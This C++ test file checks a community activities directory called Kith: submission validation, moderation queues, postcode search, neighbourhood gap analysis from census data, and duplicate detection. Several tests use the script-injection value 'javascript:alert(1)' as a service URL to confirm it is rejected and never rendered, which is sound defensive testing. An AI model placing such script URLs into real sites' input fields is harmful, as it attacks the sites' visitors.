  // The same rules on "Add your group", with the person's contact details too.
  auto added = resident.post_json("/api/v1/directory/add", {{"name", "Script cafe" + GetParam()},
                                                            {"description", "Tea"},
                                                            {"address_1", "Dudley Library"},
                                                            {"town", "Dudley"},
                                                            {"postcode", "DY1 3PT"},
                                                            {"url", "javascript:alert(1)"}});
  ASSERT_EQ(added.status, 422) << added.body;
  EXPECT_TRUE(fields_of(added).count("url"));
  auto contact = resident.post_json("/api/v1/directory/add", {{"name", "Contact cafe" + GetParam()},
                                                              {"description", "Tea"},
                                                              {"address_1", "Dudley Library"},
                                                              {"town", "Dudley"},
                                                              {"postcode", "DY1 3PT"},
                                                              {"contact_name", std::string(121, 'x')}});
  ASSERT_EQ(contact.status, 422) << contact.body;
  EXPECT_EQ(fields_of(contact)["contact_name"], "Your name must be 120 characters or fewer");  // the one name rule
  // A good suggestion is taken.
  auto good = resident.post_json(path, {{"url", "https://example.org/shed"}});
  ASSERT_EQ(good.status, 201) << good.body;

  // A suggestion stored before these rules (written straight to the database) cannot be approved.
  std::int64_t old_id = 0;
  {
    auto handle = testing::shared_server(GetParam()).app().database().acquire();
    store::Transaction tx(*handle, true);
    old_id = handle
                 ->query_one(
                     "INSERT INTO directory_submissions (kind, service_id, proposed, note, created_at) VALUES "
                     "('change', ?, ?, '', '2026-01-01T00:00:00Z') RETURNING id",
                     {service_id, Json{{"url", "javascript:alert(1)"}}.dump()})
                 ->integer(0);
    tx.commit();
  }
  auto moderator = browser();
  moderator.sign_in("moderator@demo.kith.test", "kith-demo-moderator");
  auto approved =
      moderator.post_json("/api/v1/moderate/directory/" + std::to_string(old_id), {{"decision", "approve"}});
  ASSERT_EQ(approved.status, 422) << approved.body;
  EXPECT_EQ(approved.json()["errors"][0]["field"], "decision");
  EXPECT_EQ(url_of(get("/oruk/services/" + service_id)), url_before);
  EXPECT_EQ(moderator.get("/api/v1/moderate/directory/" + std::to_string(old_id)).json()["status"], "pending");
  ASSERT_EQ(moderator
                .post_json("/api/v1/moderate/directory/" + std::to_string(old_id),
                           {{"decision", "reject"}, {"reason", "Not a web address"}})
                .status,
            200);
  ASSERT_EQ(
      moderator
          .post_json("/api/v1/moderate/directory/" + std::to_string(good.json()["submission_id"].get<std::int64_t>()),
                     {{"decision", "approve"}})
          .status,
      200);
  EXPECT_EQ(get("/oruk/services/" + service_id)["url"], "https://example.org/shed");

  // Whatever a feed or an old record holds, the service page links only an http(s) address.
  auto set_url = [&](const std::string& url) {
    auto handle = testing::shared_server(GetParam()).app().database().acquire();
    store::Transaction tx(*handle, true);
    handle->exec("UPDATE hsds_service SET url = ? WHERE id = ?", {url, service_id});
    tx.commit();
  };
  set_url("javascript:alert(1)");
  EXPECT_EQ(api("/api/v1/directory/services/" + service_id)["service"]["url"], "");
  EXPECT_EQ(browser().get("/directory/services/" + service_id).body.find("javascript:"), std::string::npos);
  set_url("https://example.org/shed");
  EXPECT_EQ(api("/api/v1/directory/services/" + service_id)["service"]["url"], "https://example.org/shed");
}

TEST_P(DirectoryApiTest, TheSearchApiAnswersFromTheIndexNearestFirst) {
  Json page = api("/api/v1/directory/search?postcode=S10%202FD&proximity=3219");
  ASSERT_GT(page["total_items"].get<int>(), 10);
  double last = -1;
  for (const auto& r : page["contents"]) {
    EXPECT_GE(r["distance_m"].get<double>(), last);
    EXPECT_LE(r["distance_m"].get<double>(), 3219);
    last = r["distance_m"];
    EXPECT_TRUE(r.contains("location_id"));
  }
  EXPECT_LT(page["contents"][0]["distance_m"].get<double>(), 50);
  Json pantry = api("/api/v1/directory/search?search=sharrow%20pantry&postcode=S10%202FD&proximity=3219");
  ASSERT_EQ(pantry["total_items"], 1);
  EXPECT_EQ(pantry["contents"][0]["name"], "Sharrow Food Pantry (demo)");
  EXPECT_GT(pantry["contents"][0]["distance_m"].get<double>(), 1000);
  // Astley Park's gates in Chorley: the one walk there on a Wednesday.
  Json walking = api("/api/v1/directory/search?search=WALKING&day=wednesday&access=&postcode=PR6%207TW&proximity=100");
  ASSERT_EQ(walking["total_items"], 1);
  EXPECT_EQ(walking["contents"][0]["name"], "Walking for Health (demo)");
  // Bad input is named.
  EXPECT_EQ(api("/api/v1/directory/search?access=jetpack", 422)["errors"][0]["field"], "access");
  EXPECT_EQ(api("/api/v1/directory/search?proximity=800", 422)["errors"][0]["field"], "postcode");
  EXPECT_EQ(api("/api/v1/directory/search?postcode=S10%202FD&page=9", 422)["errors"][0]["field"], "page");
  EXPECT_EQ(api("/api/v1/directory/search?postcode=ZZ9%209ZZ", 422)["errors"][0]["field"], "postcode");
}

TEST_P(DirectoryApiTest, ASearchNearAPostcodeAnywhereInEnglandSaysWhereItProbablyIs) {
  // Westminster is outside the four demo places: no boundary is loaded there.
  auto page = browser().get("/directory?postcode=SW1A%201AA&proximity=3219");
  EXPECT_EQ(page.status, 200);
  EXPECT_EQ(page.body.find("We do not know the postcode"), std::string::npos);
  // In the name people use for the place, with the official name beside.
  EXPECT_NE(page.body.find("SW1A 1AA is probably in "), std::string::npos) << page.body;
  EXPECT_NE(page.body.find("(Westminster 0"), std::string::npos);
  EXPECT_NE(page.body.find("Kith has no boundary for this area"), std::string::npos);
  Json api_page = api("/api/v1/directory/search?postcode=SW1A%201AA&proximity=3219");
  EXPECT_EQ(api_page["near"]["uncertain"], true);
  // Outside the place Kith serves here, and said so: an empty search is not "nothing near you".
  EXPECT_NE(page.body.find("This directory lists activities in "), std::string::npos);
  EXPECT_NE(api_page["near"]["outside"].get<std::string>().find("SW1A 1AA is outside them"), std::string::npos);
  EXPECT_FALSE(api("/api/v1/directory/search?postcode=S10%202FD")["near"].contains("outside"));
  EXPECT_EQ(api_page["near"]["postcode"], "SW1A 1AA");
  EXPECT_EQ(api_page["near"]["lsoa_code"].get<std::string>().substr(0, 3), "E01");
  // Inside Sheffield the LSOA is certain, and said plainly.
  Json sheffield = api("/api/v1/directory/search?postcode=S1%202HE&proximity=3219");
  EXPECT_EQ(sheffield["near"]["uncertain"], false);
  EXPECT_EQ(sheffield["near"]["lsoa_code"], "E01033264");
  EXPECT_EQ(sheffield["near"]["where"].get<std::string>().substr(0, 3), "in ");
  // The area finder says the same.
  Json found = api("/api/v1/areas?q=sw1a1aa");
  EXPECT_EQ(found["postcode"]["uncertain"], true);
  EXPECT_NE(browser().get("/areas?q=SW1A%201AA").body.find("Kith has no boundary for this area"), std::string::npos);
}

TEST_P(DirectoryApiTest, TheGapAnalysisRanksEveryNeighbourhoodOfAnAuthority) {
  Json gaps = api("/api/v1/directory/gaps?authority=E07000118&walk=1600");
  Json area = api("/api/v1/areas/E07000118");
  ASSERT_TRUE(gaps["rows"].is_array());
  EXPECT_EQ(gaps["summary"]["imd_loaded"], true);
  std::int64_t lsoas = gaps["rows"].size();
  EXPECT_GT(lsoas, 60);
  int with_any = 0;
  for (std::size_t i = 0; i < gaps["rows"].size(); ++i) {
    EXPECT_EQ(gaps["rows"][i]["rank"], static_cast<int>(i) + 1);
    if (gaps["rows"][i]["activities"].get<int>() > 0) ++with_any;
  }
  // Chorley's demo listings: Stay and Play in the town centre and the walk at Astley Park.
  EXPECT_GE(with_any, 1);
  EXPECT_EQ(gaps["rows"][0]["activities"], 0);
  EXPECT_EQ(gaps["rows"].back()["activities"].get<int>() >= 1, true);
  EXPECT_EQ(gaps["summary"]["with_none"], lsoas - with_any);
  auto csv = browser().get("/directory/gaps.csv?authority=E07000118&walk=1600");
  ASSERT_EQ(csv.status, 200);
  EXPECT_EQ(std::count(csv.body.begin(), csv.body.end(), '\n'), lsoas + 1);
  auto geo = browser().get("/api/v1/directory/gaps.geojson?authority=E07000118");
  ASSERT_EQ(geo.status, 200);
  EXPECT_EQ(geo.json()["features"].size(), static_cast<std::size_t>(lsoas));
  std::string type = geo.json()["features"][0]["geometry"]["type"];
  EXPECT_NE(type.find("Polygon"), std::string::npos);
  EXPECT_EQ(api("/api/v1/directory/gaps?authority=E05000001", 422)["errors"][0]["field"], "authority");
  EXPECT_EQ(api("/api/v1/directory/gaps?walk=-1", 422)["errors"][0]["field"], "walk");
  EXPECT_EQ(api("/api/v1/directory/gaps?category=nothing", 422)["errors"][0]["field"], "category");
  // On the page, a wrong authority gives the form again, whole, with what is wrong, and
  // no results: not a table of nothing, nor links to download it.
  auto wrong = browser().get("/directory/gaps?authority=xyz");
  EXPECT_NE(wrong.body.find("is not the code of a local authority in England"), std::string::npos);
  EXPECT_NE(wrong.body.find("the activities and places to meet"), std::string::npos);
  EXPECT_NE(wrong.body.find(R"(<option value="E07000118")"), std::string::npos) << "the authorities to choose from";
  EXPECT_EQ(wrong.body.find("ranked-heading"), std::string::npos);
  EXPECT_EQ(wrong.body.find("gaps.csv"), std::string::npos);
  (void)area;
}

TEST_P(DirectoryApiTest, TheGapAnalysisSaysWhereResidentsMainLanguageIsNotEnglish) {
  Json gaps = api("/api/v1/directory/gaps?authority=E06000034");  // Thurrock
  ASSERT_EQ(gaps["summary"]["census_loaded"], true);
  // Each neighbourhood's share, recomputed from the published table (TS029) itself.
  std::map<std::string, std::string> expected;
  std::ifstream file(testing::source_data() + "/census2021/ts029_english_proficiency_lsoa21.csv");
  std::string line;
  std::getline(file, line);
  ASSERT_EQ(line.rfind("lsoa21cd,total_aged_3_plus,main_language_english,", 0), 0u) << line;
  while (std::getline(file, line)) {
    auto cells = split(line, ',');
    if (cells.size() < 3 || cells[0].rfind("E01", 0) != 0) continue;
    double total = std::stod(cells[1]), english = std::stod(cells[2]);
    char text[32];
    std::snprintf(text, sizeof text, "%.1f%%", 100.0 * (total - english) / total);
    expected[cells[0]] = text;
  }
  int at_least_a_fifth = 0;
  for (const auto& row : gaps["rows"]) {
    std::string code = row["code"];
    ASSERT_TRUE(expected.count(code)) << code;
    EXPECT_EQ(row["other_language"], expected[code]) << code;
    if (std::stod(expected[code]) >= 20) ++at_least_a_fifth;
  }
  EXPECT_EQ(gaps["summary"]["other_language_areas"], at_least_a_fifth);
  EXPECT_GT(at_least_a_fifth, 0) << "Thurrock has neighbourhoods where many speak another language at home";
  auto csv = browser().get("/directory/gaps.csv?authority=E06000034");
  EXPECT_NE(csv.body.substr(0, csv.body.find('\n')).find(",main_language_not_english_pct"), std::string::npos);
}

TEST_P(DirectoryApiTest, PlacesToMeetGroupActivitiesByVenue) {
  Json near = api("/api/v1/directory/places-to-meet?postcode=S10%202FD&proximity=3219");
  ASSERT_GE(near["venues"].size(), 2u);
  EXPECT_EQ(near["venues"][0]["name"], "Broomhall Centre");
  EXPECT_EQ(near["venues"][0]["activities"].size(), 2u);
  Json close = api("/api/v1/directory/places-to-meet?postcode=S11%208SP&proximity=800");
  ASSERT_GE(close["venues"].size(), 1u) << close.dump();
  EXPECT_EQ(close["venues"][0]["name"], "Sharrow Old Church");
  Json all = api("/api/v1/directory/places-to-meet");  // A to Z (other tests may add places)
  ASSERT_GE(all["venues"].size(), 8u);
  for (std::size_t i = 1; i < all["venues"].size(); ++i)
    EXPECT_LE(all["venues"][i - 1]["name"].get<std::string>(), all["venues"][i]["name"].get<std::string>());
  EXPECT_EQ(api("/api/v1/directory/places-to-meet?page=999", 422)["errors"][0]["field"], "page");
}

TEST_P(DirectoryApiTest, ModeratorsSeeSuspectedDuplicatesAndDecide) {
  auto member = browser();
  member.sign_in("member@demo.kith.test", "kith-demo-member");
  EXPECT_EQ(member.get("/api/v1/moderate/directory/duplicates").status, 403);
  auto moderator = browser();
  moderator.sign_in("moderator@demo.kith.test", "kith-demo-moderator");
  {
    // The youth service's own sheet lists the demo's Tilbury Youth Club again, under its own id.
    Json sheet = Json::array({{{"id", "thurrock-youth-sheet-1"},
                               {"name", "Tilbury Youth Club"},
                               {"description", "From the youth service's own spreadsheet."},
                               {"status", "active"},
                               {"service_at_locations", Json::array({{{"id", "thurrock-youth-sheet-1/at"},
                                                                      {"location",
                                                                       {{"id", "thurrock-youth-sheet-1/place"},
                                                                        {"name", "Tilbury Hub"},
                                                                        {"latitude", 51.46215},
                                                                        {"longitude", 0.36530}}}}})}}});
    auto handle = testing::shared_server(GetParam()).app().database().acquire();
    store::Transaction tx(*handle, true);
    auto report = directory::import_feed(*handle, sheet, directory::FeedFormat::kHsds3, "Youth service sheet", nullptr);
    ASSERT_TRUE(report.problems.empty());
    tx.commit();
  }
  Json before = moderator.get("/api/v1/moderate/directory/duplicates").json();
  ASSERT_FALSE(before["pairs"].empty()) << "the youth service's sheet lists the Tilbury Youth Club again";
  // The moderator's queues (and the count in their menu) say how many pairs wait.
  auto duplicates_waiting = [&] {
    const Json page = moderator.get("/api/v1/moderate").json();
    for (const auto& q : page["queues"])
      if (q["href"] == "/moderate/directory/duplicates") return q["count"].get<std::size_t>();
    return std::size_t{999999};
  };
  EXPECT_EQ(duplicates_waiting(), before["pairs"].size());
  Json pair = before["pairs"][0];
  auto bad = moderator.post_json("/api/v1/moderate/directory/duplicates",
                                 {{"a", pair["a"]["id"]}, {"b", pair["b"]["id"]}, {"decision", "maybe"}});
  EXPECT_EQ(bad.status, 422);
  auto done = moderator.post_json("/api/v1/moderate/directory/duplicates",
                                  {{"a", pair["a"]["id"]}, {"b", pair["b"]["id"]}, {"decision", "different"}});
  ASSERT_EQ(done.status, 200) << done.body;
  Json after = moderator.get("/api/v1/moderate/directory/duplicates").json();
  for (const auto& p : after["pairs"]) EXPECT_FALSE(p["a"]["id"] == pair["a"]["id"] && p["b"]["id"] == pair["b"]["id"]);
  EXPECT_EQ(duplicates_waiting(), after["pairs"].size());
  EXPECT_EQ(after["pairs"].size() + 1, before["pairs"].size());
}

INSTANTIATE_TEST_SUITE_P(Backends, DirectoryApiTest, ::testing::ValuesIn(testing::backends()), testing::backend_name);

}  // namespace
}  // namespace kith
